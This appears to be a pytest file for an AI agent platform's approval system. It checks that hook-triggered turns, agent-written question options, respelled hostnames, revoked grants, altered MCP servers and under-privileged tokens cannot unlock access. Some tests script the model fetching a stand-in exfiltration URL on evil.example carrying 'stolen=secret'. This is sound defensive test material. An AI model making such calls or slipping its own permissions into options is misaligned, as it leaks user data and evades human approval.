"""What an agent under somebody else's words, or a plain token, tries with requests and questions, and does not get."""

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from behaviour.approvals.answers import answer, ended, pending, shown, told
from homing.model.people import OWNER, Caller, Role
from homing.store import sessions
from homing.testing import tool_call
from homing.web.changes import Place
from homing.web.stream import Streams
from support.events import Event, Listener
from support.mcp_scripts import scripted
from support.pages import PageServer, page, serving_pages
from support.sandboxes import need_bubblewrap
from support.site import STRANGER_TOKEN
from support.whole import Whole, open_whole

KEY = "web:fruit"
ROLES: tuple[Role, ...] = ("admin", "user")
HOST = {"host": "secret-host.example", "reason": "x"}


@pytest.fixture
async def site() -> AsyncIterator[PageServer]:
    async with serving_pages() as site:
        site.pages["/"] = page("<p>Owls are back.")
        yield site


@pytest.fixture
async def mailing(database: str, tmp_path: Path) -> AsyncIterator[Whole]:
    """One that is set up to send mail."""
    async with open_whole(database, tmp_path / "home", SMTP_URL="smtp://127.0.0.1:1") as whole:
        yield whole


async def approving(whole: Whole, role: str) -> str:
    """Make a token of the other user that may answer approvals."""
    wanted = {"user": "stranger", "approve": True, "role": role, "name": "page"}
    return (await whole.ask("POST", "/tokens", wanted, code=201))["token"]


async def test_after_a_hooks_request_only_the_agents_hosts_can_be_fetched(whole: Whole) -> None:
    whole.model.reply("Hello.")
    # A person named it, so only the rights of a hook's turn keep it back.
    await whole.say("I like https://b.example/page", key=KEY)
    url = (await whole.ask("POST", f"/sessions/{KEY}/hooks", {"name": "door"}, code=201))["url"]
    whole.model.reply([tool_call("request_access", HOST)])
    whole.model.reply("I asked.")
    await whole.http.post(f"/api/hooks/{url.rpartition('/')[2]}", json={"text": "Ring!"})
    await told(whole, "I asked.", key=KEY)
    [approval] = await pending(whole)

    whole.model.reply([tool_call("fetch_url", {"url": "https://b.example/page"})])
    whole.model.reply("It was denied.")
    await answer(whole, approval, "deny")
    await told(whole, "It was denied.", key=KEY)
    assert "This turn was opened by another program" in shown(whole)


@pytest.mark.parametrize("spelled", ["https://evil.example/?stolen=secret", "evil.example/?stolen=secret"])
async def test_an_option_is_the_agents_words_and_unlocks_no_url(whole: Whole, site: PageServer, spelled: str) -> None:
    agent = await whole.ask("GET", "/agents/main")
    await whole.ask("PATCH", "/agents/main", {"hosts": [site.place], "revision": agent["revision"]})
    assert "Owls are back." in await whole.call("fetch_url", {"url": site.url()}, key=KEY)
    whole.model.reply([tool_call("ask_question", {"title": "Go on?", "options": [f"Yes {spelled}", "No"]})])
    whole.model.reply("I asked.")
    await whole.say("ask me", key=KEY)

    whole.model.reply([tool_call("fetch_url", {"url": "https://evil.example/?stolen=secret"})])
    whole.model.reply("I tried.")
    await whole.say("1", key=KEY)
    assert "so only URLs can be fetched that the user" in shown(whole)


async def test_an_address_that_was_taken_back_is_not_the_users_to_allow(mailing: Whole) -> None:
    address = "email:boss@example.org"
    given = {"agent_id": "other", "address": address, "user": "stranger"}
    grant = await mailing.ask("POST", "/grants", given, code=201)
    wanted = {"address": address, "reason": "to write there"}
    assert "The user decides" in await mailing.call("request_access", wanted, key=KEY, token=STRANGER_TOKEN)
    [approval] = (await mailing.ask("GET", "/approvals?state=pending", token=STRANGER_TOKEN))["items"]
    await mailing.ask("DELETE", f"/grants/{grant['id']}")

    mailing.model.reply("Pity.")
    await answer(mailing, approval, token=await approving(mailing, "user"))
    done = await ended(mailing, approval, token=STRANGER_TOKEN)
    assert (done["state"], done["ended"]) == ("expired", "approver_gone")
    assert (await mailing.ask("GET", "/grants", token=STRANGER_TOKEN))["items"] == []


@pytest.mark.parametrize("change", [{"env": {"WORD": "swapped"}}, {"hosts": ["evil.example"]}])
async def test_a_call_is_made_to_the_server_that_it_was_approved_for(still: Whole, change: dict[str, Any]) -> None:
    need_bubblewrap()
    servers = "/agents/main/mcp-servers"
    await still.ask("POST", servers, scripted(env={"WORD": "shown"}, policy="ask"), code=201)
    asked = await still.call("bad_env", {"text": "WORD"}, key=KEY)
    assert asked.startswith("Asked (appr_"), asked
    [approval] = await pending(still)
    await answer(still, approval)
    # Its tools are the same, so they stay accepted.
    changed = await still.ask("PATCH", f"{servers}/bad", change)
    assert changed["state"] == "ready"
    still.model.reply("Pity.")
    assert await still.engine.actions.step()
    done = await ended(still, approval)
    assert (done["state"], done["ended"]) == ("expired", "tool_changed")


async def test_a_denied_host_is_denied_however_it_is_spelled(whole: Whole) -> None:
    for first, *others in (["a.example", "A.Example.", " a.example "], ["[::1]:80", "[0:0:0:0:0:0:0:1]:80"]):
        await whole.call("request_access", {"host": first, "reason": "x"}, key=KEY)
        [approval] = await pending(whole)
        whole.model.reply(f"No {first}.")
        await answer(whole, approval, "deny")
        await told(whole, f"No {first}.", key=KEY)
        for other in others:
            wanted = {"host": other, "reason": "please"}
            assert "was denied within the last day" in await whole.call("request_access", wanted, key=KEY)


async def test_an_admins_token_of_a_plain_user_is_refused_at_once(whole: Whole) -> None:
    await whole.call("request_access", HOST, key=KEY)
    [approval] = await pending(whole)
    await answer(whole, approval, token=await approving(whole, "user"), code=404)
    refused = await answer(whole, approval, token=await approving(whole, "admin"), code=403)
    assert "both need the role admin" in refused["detail"]
    assert [one["id"] for one in await pending(whole)] == [approval["id"]]


async def test_a_plain_token_of_an_admin_is_not_told_of_others_requests(whole: Whole) -> None:
    whole.model.reply("Hello.")
    await whole.say("hello", key=KEY)
    await whole.call("request_access", HOST, key="web:theirs", token=STRANGER_TOKEN)
    [approval] = await pending(whole)
    plain = (await whole.ask("POST", "/tokens", {"name": "script"}, code=201))["token"]
    await whole.ask("GET", f"/approvals/{approval['id']}", token=plain, code=404)

    home = await whole.homing.store.read(lambda tx: sessions.find(tx, KEY, user_id=OWNER))
    assert home is not None
    streams = Streams(whole.homing.store, whole.homing.instance)
    # Both look at the same time and place.
    tabs = [Listener(streams.of_session(Caller(user_id=OWNER, role=role), home, Place(rev=0))) for role in ROLES]
    as_admin, as_user = await asyncio.gather(*map(_until_session, tabs))
    assert [event.data["id"] for event in as_admin if event.noun == "approval"] == [approval["id"]]
    assert "approval" not in {event.noun for event in as_user}
    for tab in tabs:
        await tab.close()


async def _until_session(tab: Listener) -> list[Event]:
    """Read the events of the first look."""
    events = [await tab.next()]
    while events[-1].noun != "session":
        events.append(await tab.next())
    return events
